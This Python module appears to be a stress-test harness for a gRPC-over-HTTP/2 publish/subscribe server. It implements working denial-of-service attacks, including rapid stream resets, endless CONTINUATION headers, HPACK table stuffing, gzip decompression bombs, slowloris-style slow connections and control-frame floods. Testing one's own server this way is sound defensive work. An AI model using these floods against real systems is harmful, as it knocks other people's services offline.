"""What hostile clients do to a server. Each attack takes a target (http2.Target), how many of its kind to be, and when to stop
(time.monotonic()); it returns how often it did what it does. None needs an answer of the server to be right."""

import contextlib
import gzip
import os
import socket
import ssl
import struct
import threading
import time

import http2
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE
from http2 import frame, message, open_call

PUBLISH = "/berbagi.v1.PublisherService/Publish"
PUBLISH_STREAM = "/berbagi.v1.PublisherService/PublishStream"
SUBSCRIBE = "/berbagi.v1.SubscriberService/Subscribe"
BROKEN = (OSError, ssl.SSLError, EOFError)
FRAME = 16384  # the largest that is allowed unless the server says otherwise
MANY = 1 << 30


def again(target, until, act, context=None, settings=()):
    """Calls act(connection) on connection after connection until it is time; what act returns is summed up."""
    done = 0
    context = context or target.context()
    while time.monotonic() < until:
        try:
            with contextlib.closing(target.http2(context, settings)) as connection:
                connection.settimeout(1)
                done += act(connection)
        except BROKEN:
            time.sleep(0.01)
    return done


def flood(until, connection, make, batch):
    """Sends make(stream) for stream after stream, some at a time, until it is time or the server has had enough."""
    done, streams = 0, http2.streams()
    while time.monotonic() < until:
        try:
            connection.sendall(b"".join(make(next(streams)) for _ in range(batch)))
        except BROKEN:
            break
        done += batch
    return done


def hold(until, connections):
    """Keeps them open until it is time, then closes them; how many there were."""
    time.sleep(max(0, until - time.monotonic()))
    for connection in connections:
        connection.close()
    return len(connections)


def neighbour(target, n, until):
    """No attack: somebody on the same machine who sends as much to himself. What attackers cost beside that is the server's."""
    done, (near, far), piece = 0, socket.socketpair(), bytes(n)
    threading.Thread(target=lambda: all(iter(lambda: far.recv(n), b"")), daemon=True).start()
    while time.monotonic() < until:
        near.sendall(piece)
        done += 1
    near.close()
    return done


# Before there is a caller


def half_open_handshakes(target, n, until):
    """TCP connections that say nothing, or begin to say hello and stop."""
    hello = bytes.fromhex("16030100c8010000c40303") + bytes(20)
    held = []
    for i in range(n):
        with contextlib.suppress(OSError):
            held.append(target.tcp())
            held[-1].sendall(hello[:i % 3 * 15])
    return hold(until, held)


def garbage(target, n, until):
    """Random bytes on the port, before TLS and within it."""
    done = 0
    context = target.context()
    while time.monotonic() < until:
        for connect in (target.tcp, lambda: target.tls(context)):
            with contextlib.suppress(*BROKEN), contextlib.closing(connect()) as connection:
                connection.sendall(os.urandom(n))
                done += 1
    return done


def strangers(target, n, until):
    """Handshakes without a certificate, one after the other."""
    done = 0
    context = target.context(with_certificate=False)
    while time.monotonic() < until:
        with contextlib.suppress(*BROKEN), contextlib.closing(target.tls(context)) as connection:
            connection.settimeout(1)
            connection.recv(1)
        done += 1
    return done


# With a certificate


def idle_connections(target, n, until):
    """Connections that shake hands and do nothing."""
    held, context = [], target.context()
    while len(held) < n and time.monotonic() < until:
        with contextlib.suppress(*BROKEN):
            held.append(target.http2(context))
    return hold(until, held)


def slow_writers(target, n, until):
    """A message each, a byte at a time."""
    held, context = [], target.context()
    for _ in range(n):
        with contextlib.suppress(*BROKEN):
            held.append(target.http2(context))
            held[-1].sendall(open_call(1, PUBLISH) + frame(DATA, 0, 1, message(b"", length=1 << 20)))
    while time.monotonic() < until:
        for connection in held:
            with contextlib.suppress(*BROKEN):
                connection.sendall(frame(DATA, 0, 1, b"x"))
        time.sleep(0.05)
    return hold(until, held)


def slow_readers(target, n, until):
    """Streams with a window as large as there is, of which nothing is read."""
    held, context = [], target.context()
    opening = message(bytes.fromhex("0a00"))  # SubscribeRequest.open, with nothing in it
    for _ in range(n):
        with contextlib.suppress(*BROKEN):
            held.append(target.http2(context, settings=((4, (1 << 31) - 1),)))
            held[-1].sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MANY)))
            for stream in (1, 3, 5, 7):
                held[-1].sendall(open_call(stream, SUBSCRIBE) + frame(DATA, 0, stream, opening))
    return hold(until, held)


def many_streams(target, n, until):
    """So many streams on one connection, all left open."""
    def act(connection):
        numbers = http2.streams()
        for _ in range(n):
            connection.sendall(open_call(next(numbers), SUBSCRIBE))
        time.sleep(max(0, until - time.monotonic()))
        return n
    return again(target, until, act)


def rapid_resets(target, n, until):
    """Calls that are taken back at once."""
    return again(target, until, lambda connection: flood(
        until, connection, lambda stream: open_call(stream, PUBLISH) + frame(RST_STREAM, 0, stream, http2.CANCEL), n))


def half_closed_resets(target, n, until):
    """The same with a whole request in each."""
    def make(stream):
        return (open_call(stream, PUBLISH) + frame(DATA, END_STREAM, stream, message(b""))
                + frame(RST_STREAM, 0, stream, http2.CANCEL))
    return again(target, until, lambda connection: flood(until, connection, make, n))


def large_headers(target, n, until):
    """Calls with as many headers as fit into a frame, which is just below and far above what is allowed."""
    short = tuple((f"x-{i}", "y" * 60) for i in range(100))
    long = tuple((f"x-{i}", "y" * 100) for i in range(140))

    def make(stream):
        return open_call(stream, PUBLISH, *(long if stream % 4 == 1 else short))
    return again(target, until, lambda connection: flood(until, connection, make, n))


def endless_headers(target, n, until):
    """A header block that goes on in frame after frame and never ends."""
    block = http2.header("x", "y" * 1000) * 16

    def act(connection):
        connection.sendall(frame(HEADERS, 0, 1, http2.call_headers(PUBLISH)))
        return flood(until, connection, lambda _: frame(CONTINUATION, 0, 1, block), n)
    return again(target, until, act)


def table_stuffing(target, n, until):
    """Headers that all go into the decoder's table, and calls that name the largest again and again."""
    entry = b"\x40\x01x" + http2._integer(4000, 7) + b"y" * 4000

    def make(stream):
        block = http2.call_headers(PUBLISH) + (entry if stream == 1 else b"\xbe" * 200)
        return frame(HEADERS, END_HEADERS, stream, block)
    return again(target, until, lambda connection: flood(until, connection, make, n))


def bombs(target, n, until):
    """Compressed messages that are a thousand times as large inside."""
    bomb = message(gzip.compress(bytes(32 << 20)), compressed=True)
    pieces = [bomb[i:i + FRAME] for i in range(0, len(bomb), FRAME)]

    def make(stream):
        return open_call(stream, PUBLISH, ("grpc-encoding", "gzip")) + b"".join(
            frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece) for piece in pieces)
    return again(target, until, lambda connection: flood(until, connection, make, 1))


def unfinished_messages(target, n, until):
    """On each of so many streams all but the end of the largest message that is allowed."""
    body = message(b"", length=(4 << 20) - 100)

    def make(stream):
        return open_call(stream, PUBLISH) + frame(DATA, 0, stream, body) + frame(DATA, 0, stream, bytes(FRAME)) * 255

    def act(connection):
        connection.settimeout(max(0.1, until - time.monotonic()))
        return flood(until, connection, make, 1)
    return again(target, until, act)


def giant_frames(target, n, until):
    """Frames and messages that say they are as large as numbers go."""
    def make(stream):
        return open_call(stream, PUBLISH) + frame(DATA, 0, stream, message(b"x" * 100, length=(1 << 32) - 1))

    def act(connection):
        done = flood(min(until, time.monotonic() + 0.1), connection, make, 10)
        connection.sendall(frame(DATA, 0, 1, b"x" * 100, length=(1 << 24) - 1))
        return done + flood(until, connection, lambda _: os.urandom(FRAME), 1)
    return again(target, until, act)


def tiny_frames(target, n, until):
    """A message in frames of one byte, and frames of none between them."""
    def act(connection):
        connection.sendall(open_call(1, PUBLISH_STREAM) + frame(DATA, 0, 1, message(b"", length=1 << 20)))
        return flood(until, connection, lambda _: frame(DATA, 0, 1, b"x") + frame(DATA, 0, 1), n)
    return again(target, until, act)


def control_frames(target, n, until):
    """Pings, settings, windows and priorities without end."""
    ping = frame(PING, 0, 0, bytes(8))
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20))
    window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    priority = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))

    def flood_with(piece):
        return lambda connection: flood(time.monotonic() + (until - time.monotonic()) / 4, connection, lambda _: piece, n)
    return sum(again(target, time.monotonic() + (until - time.monotonic()) / (4 - i), flood_with(piece))
               for i, piece in enumerate((ping, settings, window, priority)))


# name: (attack, how many of its kind in a short test, in a full run)
ATTACKS = {
    "neighbour": (neighbour, 16384, 16384),
    "half-open handshakes": (half_open_handshakes, 100, 2000),
    "garbage": (garbage, 4096, 4096),
    "strangers": (strangers, 1, 1),
    "idle connections": (idle_connections, 50, 2000),
    "slow writers": (slow_writers, 20, 200),
    "slow readers": (slow_readers, 10, 100),
    "many streams": (many_streams, 5000, 5000),
    "large headers": (large_headers, 10, 10),
    "endless headers": (endless_headers, 10, 10),
    "bombs": (bombs, 1, 1),
    "unfinished messages": (unfinished_messages, 1000, 1000),
    "giant frames": (giant_frames, 1, 1),
    "tiny frames": (tiny_frames, 200, 200),
    "control frames": (control_frames, 200, 200),
    "rapid resets": (rapid_resets, 100, 100),
    "resets of whole requests": (half_closed_resets, 100, 100),
    "table stuffing": (table_stuffing, 100, 100),
}
